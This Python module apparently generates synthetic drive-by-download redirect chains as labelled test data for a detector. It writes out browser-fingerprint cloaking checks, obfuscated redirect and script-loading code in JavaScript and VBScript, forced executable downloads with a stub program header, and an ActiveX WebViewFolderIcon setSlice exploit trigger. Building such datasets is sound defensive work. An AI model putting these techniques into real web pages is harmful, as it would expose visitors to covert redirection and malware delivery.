"""Chains of pages with the graph that a visitor must find in them.

A chain goes from a landing page over two to six others to an end: a program that comes unasked, a misused
component, or an ordinary page. Each step is drawn from the seed: how it leads on, how its script is hidden and
started, whom it is shown to, and which innocent things stand around it.
"""
import collections
import random
import re
from dataclasses import dataclass, field

import bystanders
import detours
import mechanisms
import obfuscation
from mechanisms import ALL, MODERN, NEW, OLD, STANDARD, TRIDENT
from server import Answer
from source import Code, Marker, plain

# What each understands, and how often it is the one.
PERSONAS = {"chrome-win10": {ALL, STANDARD, MODERN, NEW}, "firefox52-winxp": {ALL, STANDARD, MODERN},
            "ie11-win7": {ALL, STANDARD, TRIDENT}, "ie8-winxp": {ALL, TRIDENT, OLD}}
WEIGHTS = [5, 2, 2, 4]
# Words that the persona's User-Agent has and the others' have not.
AGENT_WORD = {"chrome-win10": "Chrome/", "firefox52-winxp": "Firefox/", "ie11-win7": "rv:11.0) like",
              "ie8-winxp": "MSIE 8"}
CHECKS = {
    "chrome-win10": ["navigator.userAgent.indexOf('Chrome/') > 0", "!!window.chrome || /Chrome/.test(navigator.userAgent)",
                     "typeof ActiveXObject == 'undefined' && navigator.vendor.indexOf('Google') == 0"],
    "firefox52-winxp": ["/Firefox\\/\\d+/.test(navigator.userAgent)", "navigator.product == 'Gecko' && !window.chrome",
                     "navigator.plugins && navigator.plugins['Shockwave Flash']"],
    "ie11-win7": ["'ActiveXObject' in window", "/Trident\\/7/.test(navigator.userAgent)", "!document.all && !!document.documentMode",
                  "navigator.appName == 'Netscape' && !window.attachEvent", "document.documentMode === 11"],
    "ie8-winxp": ["window.ActiveXObject", "navigator.appName.indexOf('Explorer') > 0", "!!document.all && !window.opera",
                  "/MSIE [678]/.test(navigator.userAgent)", "typeof document.attachEvent != 'undefined'",
                  "/*@cc_on!@*/false"],
}
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x40\x00\x00\x00PE\x00\x00" + bytes(400)


@dataclass
class Edge:
    mechanism: str
    source: str
    target: str
    code: Code | None = None
    mark: int = 0
    written_by: str = ""


@dataclass
class Page:
    url: str
    head: str = ""
    body: str = ""
    hidden: str = ""
    frameset: str = ""
    scripts: str = ""
    headers: list = field(default_factory=list)
    body_attributes: str = ""
    wait: float = 0  # seconds that may pass before it does what it is there for

    def html(self):
        start = f"<!DOCTYPE html>\n<html><head><title>Welcome</title>{self.head}</head>\n"
        if self.frameset:
            return start + self.frameset + "</html>"
        return f"{start}<body{self.body_attributes}>\n{self.hidden}{self.body}\n{self.scripts}</body></html>\n"


@dataclass
class Chain:
    number: int
    persona: str
    url: str
    edges: list = field(default_factory=list)
    roles: dict = field(default_factory=dict)   # URL → role
    verdict: str = "benign"
    served: dict = field(default_factory=dict)  # URL → text with marks
    browser: bool = True    # a real browser follows it alike
    wait: float = 0         # the longest of its pages, seconds
    used: collections.Counter = field(default_factory=collections.Counter)


class Builder:
    def __init__(self, sites, seed, number):
        self.sites = sites
        self.rng = random.Random(f"{seed} {number}")
        self.marker = Marker()
        self.number = number
        self.pages = 0
        persona = self.rng.choices(list(PERSONAS), WEIGHTS)[0]
        self.words, self.checks = PERSONAS[persona] | {persona}, CHECKS[persona]
        self.chain = Chain(number, persona, "")
        self.used = self.chain.used
        self.page = None
        self.may_hide_in_page = True
        self.while_parsing = True
        self.strict = False  # texts for strict code
        self.in_frame = False

    # --- parts

    def new_url(self, origin, suffix=""):
        self.pages += 1
        word = self.rng.choice(["in", "go", "news", "page", "view", "load", "track", "q"])
        return f"{origin}/{self.number}/{word}{self.pages}{suffix}"

    def edge(self, mechanism, source, target, code=None, mark=0, written_by=""):
        self.chain.edges.append(Edge(mechanism, source, target, code, mark, written_by))

    def serve(self, url, text, headers=(), **more):
        """`text` with marks; what is served is without."""
        self.chain.served[url] = text
        self.sites.answers[url] = Answer(plain(text).encode(), headers=headers, **more)

    def page_like(self, page, url):
        """Another of the same chain, with nothing in it."""
        return type(page)(url)

    # --- scripts

    def expression(self, text):
        return obfuscation.expression(self, text)

    def inline_script(self, page, text, mechanism, target, mark):
        """An inline script with one act in it; for what is markup but for that."""
        code = Code(text)
        self.edge(mechanism, page.url, target, code, mark)
        return self.inline(page, code)

    def act_for(self, url_expression):
        choices = [a for a in mechanisms.ACTS
                   if a.where in self.words and not (a.top_only and self.in_frame)]
        return self.rng.choice(choices)

    def fetched_text(self, page, target):
        """The next URL comes as data: by XMLHttpRequest, ActiveX or fetch."""
        data = self.new_url(page.url.rsplit("/", 2)[0], ".txt")
        self.serve(data, target, [("Content-Type", "text/plain")])
        ask = obfuscation.expression(self, data)
        forms = [("xhr", f"var x = new XMLHttpRequest();\nx.open('GET', {ask}, false);\n«x.send()»;\n"
                         "«location = x.responseText»;"),
                 ("xhr", f"var x = new XMLHttpRequest();\nx.onreadystatechange = function () {{\n"
                         "  if (x.readyState == 4) { «location.href = x.responseText» }\n};\n"
                         f"x.open('GET', {ask});\n«x.send(null)»;")]
        if MODERN in self.words:
            forms += [("fetch", f"«fetch({ask})».then(function (r) {{ return r.text() }}).then(function (t) {{\n"
                                "  «location.replace(t)»;\n});"),
                      ("xhr", f"var x = new XMLHttpRequest();\nx.addEventListener('load', function () {{\n"
                              "  «location = this.response» });\n"
                              f"x.open('GET', {ask});\n«x.send()»;")]
        if OLD in self.words:
            forms.append(("xhr", f"var x = new ActiveXObject('Microsoft.XMLHTTP');\nx.open('GET', {ask}, false);\n"
                                 "«x.Send()»;\n«location = x.responseText»;"))
        mechanism, template = self.rng.choice(forms)
        text, marks = self.marker.fill(template)
        code = Code(text)
        go = next(m for m in marks if "location" in text[text.index(chr(0xE000 + 2 * m)):
                                                        text.index(chr(0xE001 + 2 * m))])
        send = next(m for m in marks if m != go)
        self.edge(mechanism, page.url, data, code, send)
        self.edge("location", page.url, target, code, go)
        self.used["next by " + mechanism] += 1
        return code

    def script_step(self, page, target):
        most = 3
        if self.rng.random() < 0.12:
            code = self.fetched_text(page, target)
            self.while_parsing = False
        else:
            act = self.act_for(target)
            self.while_parsing = act.parsing_only
            page.body += act.markup
            text, marks = self.marker.fill(act.text.replace("{u}", obfuscation.expression(self, target)))
            code = Code(text)
            self.edge(act.mechanism, page.url, target, code, marks[0], act.written_by)
            self.used[act.text] += 1
            page.wait += act.wait
            self.chain.browser &= act.browser
            if act.parsing_only:
                most = 2
        self.hide_and_place(page, code, most)

    def hide_and_place(self, page, code, most=3):
        """Cloaks, hides and places what a page runs; at most so many layers."""
        layers = min(most, self.rng.choices([0, 1, 2, 3], [3, 4, 2, 1])[0])
        if self.rng.random() < 0.3:
            # Conditional compilation is understood where a document holds the script, not inside eval.
            checks = [c for c in self.checks if "@cc_on" not in c or not layers]
            code.text = f"if ({self.rng.choice(checks)}) {{\n{code.text}\n}}"
            self.used["cloaked by script"] += 1
        ways = list(obfuscation.SCRIPTS)
        if self.while_parsing:  # what waits would write after the page is complete
            obfuscation.SCRIPTS = [w for w in ways if w is not obfuscation.by_timer]
        code = obfuscation.hidden(self, code, layers)
        obfuscation.SCRIPTS = ways
        self.place(page, code)

    def place(self, page, code):
        """Where the document has its script."""
        where = self.rng.choices(["inline", "file", "written file", "made file", "handler"], [6, 2, 1, 1, 1])[0]
        if where == "handler" and (self.while_parsing or "\n" in plain(code.text)):
            where = "inline"
        if where == "made file" and self.while_parsing:
            where = "file"
        self.used["script: " + where] += 1
        if where == "inline":
            page.scripts += self.inline(page, code)
            return
        if where == "handler":
            page.body_attributes = f' onload="{mechanisms.attribute(plain(code.text))}"'
            code.url = page.url
            code.first_line = lambda: self.chain.served[page.url].split("<body")[0].count("\n") + 1
            return
        url = self.new_url(self.rng.choice(self.sites.origins), ".js")
        code.url, code.whole = url, lambda: self.chain.served[url]
        self.serve(url, "// loaded\n" * self.rng.randint(0, 3) + code.text, [("Content-Type", "text/javascript")])
        code.hashed = False
        if where == "file":
            page.scripts += f"<script src='{url}'></script>\n"
            self.edge("script", page.url, url)
            return
        template = ("«document.write('<script src=' + {u} + '></scr' + 'ipt>')»;" if where == "written file" else
                    "var s = document.createElement('script');\ns.src = {u};\n"
                    "«document.getElementsByTagName('head')[0].appendChild(s)»;")
        text, marks = self.marker.fill(template.replace("{u}", obfuscation.expression(self, url)))
        loader = Code(text)
        self.edge("script", page.url, url, loader, marks[0],
                  "document.write" if where == "written file" else "")
        page.scripts += self.inline(page, loader)

    def inline(self, page, code):
        code.url, code.whole, code.hashed = page.url, lambda: self.chain.served[page.url], False
        lead = self.rng.choice(["", "\n", "\n\n  ", "\n<!--\n"])
        kind = self.rng.choice(["", ' type="text/javascript"', ' language="JavaScript"'])
        return f"<script{kind}>{lead}{code.text}{chr(10) + '//-->' if '<!--' in lead else ''}</script>\n"

    def vb_step(self, page, target):
        choices = [a for a in mechanisms.VB_ACTS if not (a.top_only and self.in_frame)]
        act = self.rng.choice(choices)
        page.body += act.markup
        pieces = re.findall(".{1,9}", target)
        expression = self.rng.choice([
            '"' + target + '"', " & ".join(f'"{p}"' for p in pieces), " & ".join(f"Chr({ord(c)})" for c in target),
            f'StrReverse("{target[::-1]}")', f'Replace("{target.replace("t", "~")}", "~", "t")',
            f'Join(Array({", ".join(chr(34) + p + chr(34) for p in pieces)}), "")'])
        text, marks = self.marker.fill(act.text.replace("{u}", expression))
        code = Code(text)
        self.edge(act.mechanism, page.url, target, code, marks[0], act.written_by)
        self.used["VBScript: " + act.text] += 1
        if self.rng.random() < 0.4:
            inner = plain(text)
            codes = " & ".join(f"Chr({ord(c)})" for c in inner) if len(inner) < 200 else None
            quoted = ' & vbLf & '.join('"' + line.replace('"', '""') + '"' for line in inner.split("\n"))
            outer, marks = self.marker.fill(self.rng.choice(["«Execute {e}»", "«ExecuteGlobal {e}»"])
                                            .replace("{e}", codes or quoted))
            holder = Code(outer)
            code.made_by = (holder, marks[0])
            code = holder
        code.url, code.whole, code.hashed = page.url, lambda: self.chain.served[page.url], False
        page.scripts += f"<script language=\"VBScript\">\n{code.text}\n</script>\n"
        self.chain.browser = False

    # --- steps

    def step(self, page, target, is_file=False):
        """From a page to `target`; answers with the documents in between."""
        self.page = page
        self.may_hide_in_page, self.while_parsing = True, True
        between = self.lead_on(page, target, is_file)
        bystanders.stand(self, page, is_file)
        return between

    def lead_on(self, page, target, is_file):
        kinds = {"script": 6, "markup": 3, "detour": 3, "vb": 2 if OLD in self.words else 0}
        kind = self.rng.choices(list(kinds), list(kinds.values()))[0]
        if kind in ("markup", "detour"):
            rows = mechanisms.MARKUP if kind == "markup" else detours.WAYS + detours.TO_FILES * is_file
            way = self.rng.choice([w for w, where in rows if where in self.words])
            self.used[way.__name__] += 1
            return way(self, page, target) or []
        (self.script_step if kind == "script" else self.vb_step)(page, target)
        return []

    def serve_page(self, page, cloaked):
        more = {}
        self.chain.wait = max(self.chain.wait, page.wait)
        if cloaked:
            more = {"only_for": AGENT_WORD[self.chain.persona], "otherwise": b"<p>Nothing here.</p>"}
            self.used["cloaked by server"] += 1
        self.serve(page.url, page.html(), [("Content-Type", "text/html"), *page.headers], **more)


FRAMING = {"iframe", "frame", "object", "embed"}


def generate(sites, seed, number):
    """One chain, its answers put into `sites`."""
    b = Builder(sites, seed, number)
    chain, rng = b.chain, b.rng
    origins = rng.sample(sites.origins, rng.randint(4, 7))
    end = rng.choices(["program", "component" if OLD in b.words else "program", "page"], [6, 3, 2])[0]
    b.used["end: " + end] += 1
    way = []  # URLs from the first page to the end, in order
    page = Page(b.new_url(origins[0]))
    chain.url = page.url
    for origin in origins[1:-1]:
        way.append(page.url)
        target = b.new_url(origin)
        first = target
        redirects = rng.choices([0, 1, 2], [7, 2, 1])[0]
        passed = []
        for _ in range(redirects):
            status = rng.choice(mechanisms.REDIRECTS)
            following = b.new_url(rng.choice(sites.origins))
            sites.answers[target] = Answer(b"", status, [("Location", following)])
            b.edge("http_redirect", target, following)
            b.used[f"HTTP {status}"] += 1
            passed.append(target)
            target = following
        before = len(chain.edges)
        way += b.step(page, first)
        way += passed
        b.in_frame = b.in_frame or any(e.mechanism in FRAMING for e in chain.edges[before:] if e.target == first)
        b.serve_page(page, rng.random() < 0.15)
        page = Page(target)
    way.append(page.url)
    finish(b, page, end, origins[-1], way)
    return chain


def finish(b, page, end, last_origin, way):
    chain = b.chain
    if end == "program":
        file = b.new_url(last_origin, b.rng.choice([".exe", "", ".php?id=3", ".jpg"]))
        headers = b.rng.choice([[("Content-Type", "application/octet-stream")],
                                [("Content-Type", "application/x-msdownload")],
                                [("Content-Type", "text/html"), ("Content-Disposition", "attachment; filename=\"a.exe\"")],
                                [("Content-Type", "application/octet-stream"),
                                 ("Content-Disposition", "attachment; filename=update.exe")]])
        b.sites.answers[file] = Answer(PROGRAM, 200, headers)
        way += b.step(page, file, True)
        way.append(file)
    elif end == "component":
        b.page = page
        page.scripts += ("<script>var o = new ActiveXObject('WebViewFolderIcon.WebViewFolderIcon');\n"
                         f"o.setSlice(0x7fffffff, {b.rng.randint(2000, 5000)}, 0, 0);</script>\n")
    else:
        page.body += "<p>Hello.</p>"
        bystanders.stand(b, page)
    b.serve_page(page, False)
    if end == "page":
        return
    chain.verdict = "malicious"

    def site(url):
        url = url.removeprefix("blob:")
        return url.split("/")[2].split(":")[0] if url.startswith("http") else ""

    # The page where the way leaves the first site, then whoever passes on, who attacks, who serves.
    exploit = way[-1] if end == "component" else page.url
    if end == "program":
        chain.roles[way[-1]] = "distribution"
        # A data: document that asks for the file is the page's own, but it is the one that asks.
        asks = [e.source for e in chain.edges if e.target == way[-1]]
        exploit = asks[0]
    left = False
    for here, following in zip(way, way[1:]):
        left = left or site(following) not in ("", site(way[0]))
        if left and here != exploit:
            chain.roles[here] = "relay" if chain.roles else "landing"
    first = next(u for u in way if u in chain.roles)
    chain.roles[first] = "landing"
    for url in way:
        if url in chain.roles and url != first and chain.roles[url] == "landing":
            chain.roles[url] = "relay"
    chain.roles[exploit] = "exploit"
